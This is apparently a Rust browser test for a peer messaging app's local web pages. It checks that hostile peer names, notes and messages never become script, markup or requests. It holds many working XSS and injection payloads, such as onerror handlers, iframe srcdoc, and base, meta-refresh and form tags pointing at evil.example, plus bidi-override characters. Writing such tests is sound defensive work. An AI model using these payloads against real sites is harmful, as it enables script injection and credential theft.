//! Script and markup in everything that a peer can say, on every page, in a real browser.

use serde_json::json;

use super::visitor::way_in;
use crate::support::{
    Home, SOON, alice,
    browser::{Page, browser},
    mcp::Session,
    pairing::{id, ready_item},
    pty::{self, Terminal},
    until,
};

/// As long as a name may be: it ends an attribute and begins an element.
const NAME: &str = "\"'><img src=x onerror=__pwned=1><script>__pwned=1</script>\u{202e}";
/// As long as a note may be.
const NOTE: &str = "</textarea></title></style><svg onload=__pwned=1><a href=javascript:__pwned=1>x</a>\
    <base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>{{7*7}}\u{200b}";

fn texts() -> Vec<String> {
    let plain = [
        "<script>window.__pwned=1</script><img src=//evil.example/i onerror=window.__pwned=1>",
        "</pre></article></main></body><iframe srcdoc='<script>top.__pwned=1</script>'></iframe>",
        "--><!-- ]]> <![CDATA[ <style>@import '//evil.example/s'; body{display:none}</style>",
        "javascript:__pwned=1 http://evil.example/link [x](http://evil.example/) data:text/html,<p>",
        "\" autofocus onfocus=__pwned=1 x=\" ' onmouseover=__pwned=1 ` &#60;b&#62; &lt;i&gt; %3Cb%3E",
        "<form action=//evil.example/><input name=passphrase></form><button form=deny>Approve</button>",
        "<div id=open></div><div id=waiting data-live=items></div><p id=announce>",
    ];
    let mut texts: Vec<String> = plain.map(Into::into).to_vec();
    texts.push(format!("{}: \u{202e}gnp.exe\u{2066} \u{1b}[2J\u{7f}\u{0}\u{fdd0}<mark>", "hidden"));
    texts.push("<b>".repeat(2000));
    texts
}

/// A home whose name is an attack.
fn hostile() -> Home {
    let home = Home::empty("mallory", "quartz heron forgot the seventh staircase");
    home.keep_key_in_file();
    let mut terminal = Terminal::open(&home, &["init", "--name", NAME]);
    terminal.answer(home.passphrase);
    terminal.answer(home.passphrase);
    terminal.finish().expect(0);
    home.start();
    home
}

/// What Mallory says, whoever has to let it go.
fn says(home: &Home, to: &str, text: &str) {
    let sent = Session::legacy(home).call("peer_send", json!({"to": to, "text": text}));
    if let Some(item) = sent["pending"].as_str() {
        pty::approve(home, item, home.passphrase).expect(0);
    }
}

/// No script of somebody's ran, nothing was asked of another site, and nothing lies about itself.
#[track_caller]
fn assert_harmless(page: &Page<'_>, port: u16) {
    let url = page.url();
    let icon = format!("http://localhost:{port}/favicon.ico");
    assert!(url.starts_with(&format!("http://localhost:{port}/")), "{url}");
    assert_eq!(page.eval("String(window.__pwned)"), "undefined", "{url}");
    let asked = page.eval("performance.getEntriesByType('resource').map(entry => entry.name)");
    for asked in asked.as_array().unwrap() {
        let asked = asked.as_str().unwrap();
        assert!(asked.starts_with(&format!("http://localhost:{port}/")), "{url} asks for {asked}");
    }
    // What a page of ours never has, whatever it shows.
    let strange = "iframe, object, embed, base, style, svg:not(.icon), img, meta[http-equiv], [srcdoc], [onerror], \
        [onload], [onfocus], [onmouseover], script:not([src='/page.js'])";
    let found = page.eval(&format!(
        "Array.from(document.querySelectorAll({}), e => e.outerHTML.slice(0, 200))",
        json!(strange)
    ));
    assert_eq!(found, json!([]), "{url}");
    let away = "Array.from(document.querySelectorAll('a[href], form[action]'), e => e.href || e.action)\
        .filter(to => !to.startsWith(location.origin + '/'))";
    assert_eq!(page.eval(away), json!([]), "{url}");
    // A character that turns what is read around is on no page; its number is.
    let hidden = "(document.title + document.documentElement.outerHTML).match(\
        /[\\u0000-\\u0008\\u000b-\\u001f\\u007f\\u200b\\u202a-\\u202e\\u2066-\\u2069]/g)";
    assert_eq!(page.eval(hidden), json!(null), "{url}");
    // The browser asks for an icon by itself where a page names none, such as one of plain text; and a
    // page that says that a message still waits has the status of that.
    let usual = [format!("404 (Not Found) {icon}"), format!("409 (Conflict) {url}")];
    let mut problems = page.problems();
    problems.retain(|problem| !usual.iter().any(|usual| problem.ends_with(usual)));
    page.forget_problems();
    assert!(problems.is_empty(), "{url}: {problems:?}");
}

/// Every page that leads to another, from those that are there.
fn visit_all(page: &Page<'_>, port: u16) -> usize {
    let site = format!("http://localhost:{port}");
    let first = [
        "/waiting",
        "/conversations",
        "/peers",
        "/evidence",
        "/settings",
        "/search?q=script",
        "/search?q=%3Cscript%3E__pwned%3D1%3C/script%3E",
        "/search?q=hidden",
        "/nowhere",
    ];
    let mut places: Vec<String> = first.map(Into::into).to_vec();
    let mut at = 0;
    while let Some(place) = places.get(at).cloned() {
        at += 1;
        page.goto(&format!("{site}{place}"));
        if place == "/nowhere" {
            // It is said that there is none.
            assert_eq!(page.problems().len(), 1);
            page.forget_problems();
            continue;
        }
        assert_harmless(page, port);
        let links = page
            .eval("Array.from(document.querySelectorAll('a[href]'), a => a.getAttribute('href'))");
        for link in links.as_array().unwrap() {
            let link = link.as_str().unwrap().split('#').next().unwrap();
            let wanted = link.starts_with('/') && !link.ends_with("/export");
            if wanted && !places.iter().any(|known| known == link) && places.len() < 120 {
                places.push(link.to_owned());
            }
        }
    }
    at
}

#[test]
fn nothing_that_a_peer_says_becomes_script_markup_or_a_request() {
    let Some(browser) = browser() else { return };
    let (alice, mallory) = (alice(), hostile());
    let (port, code) = way_in(&alice);
    let page = browser.page();
    page.goto(&format!("http://localhost:{port}/open#{code}"));
    page.wait_for("location.pathname === '/waiting'");

    let invite = alice.json(&["invite", "--note", NOTE])["invite"].as_str().unwrap().to_owned();
    mallory.run(&["connect", &invite, "--name", "alice", "--note", NOTE]);
    let asked = ready_item(&alice, "peer_in");
    assert!(asked["note"].as_str().is_some_and(|note| note.contains("<svg")), "{asked:#}");
    page.goto(&format!("http://localhost:{port}/waiting/{}", id(&asked)));
    assert_harmless(&page, port);
    let shown = page.text("article");
    assert!(shown.contains("<script>__pwned=1</script>") && shown.contains("U+202E"), "{shown}");
    assert!(shown.contains("<svg onload") && shown.contains("U+200B"), "{shown}");
    let petname = asked["peer"]["name"].as_str().unwrap().to_owned();
    assert!(petname.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c)), "{petname}");

    mallory.approve(id(&ready_item(&mallory, "peer_out")));
    alice.approve(id(&asked));
    until("both trust each other", SOON, || {
        alice.peer_state(&petname) == "trusted" && mallory.peer_state("alice") == "trusted"
    });
    for text in texts() {
        says(&mallory, "alice", &text);
    }
    until("all of it has come", SOON, || {
        alice.received().len() + alice.pending().len() >= texts().len()
    });
    let held = alice.pending();
    assert!(!held.is_empty(), "hidden characters wait for the human");
    Session::legacy(&alice).call("peer_send", json!({"to": petname, "text": texts()[0]}));
    alter(&alice);
    // Another node may have taken its port meanwhile.
    let (port, code) = way_in(&alice);
    page.goto("about:blank");
    page.forget_problems();
    page.goto(&format!("http://localhost:{port}/open#{code}"));
    page.wait_for("location.pathname === '/waiting'");
    let visited = visit_all(&page, port);
    assert!(visited >= 20, "{visited} pages");
    page.goto(&format!("http://localhost:{port}/waiting/{}", id(&held[0])));
    assert!(page.text("pre").contains("U+202E"), "{}", page.text("pre"));
    page.goto(&format!("http://localhost:{port}/waiting/{}/raw", id(&held[0])));
    assert_eq!(page.eval("document.contentType"), "text/plain");
}

/// What another program as a peer may say and ours does not: unknown kinds, and reasons of
/// receipts. It is written as the node writes it down when it comes.
fn alter(home: &Home) {
    home.stop();
    let db = home.database();
    let last = "(SELECT max(number) FROM messages WHERE outgoing = 0 AND state != 'held')";
    db.execute(
        &format!(
            "UPDATE messages SET kind = ?1, text = seal('messages.text', '', id, peer, outgoing)
             WHERE number = {last}"
        ),
        ["<img src=x onerror=__pwned=1>"],
    )
    .unwrap();
    let reason = "<script>__pwned=1</script>\u{202e}";
    db.execute("UPDATE history SET reason = ?1", [reason]).unwrap();
    db.execute("UPDATE messages SET note = ?1 WHERE state != 'held'", [reason]).unwrap();
    drop(db);
    home.start();
}
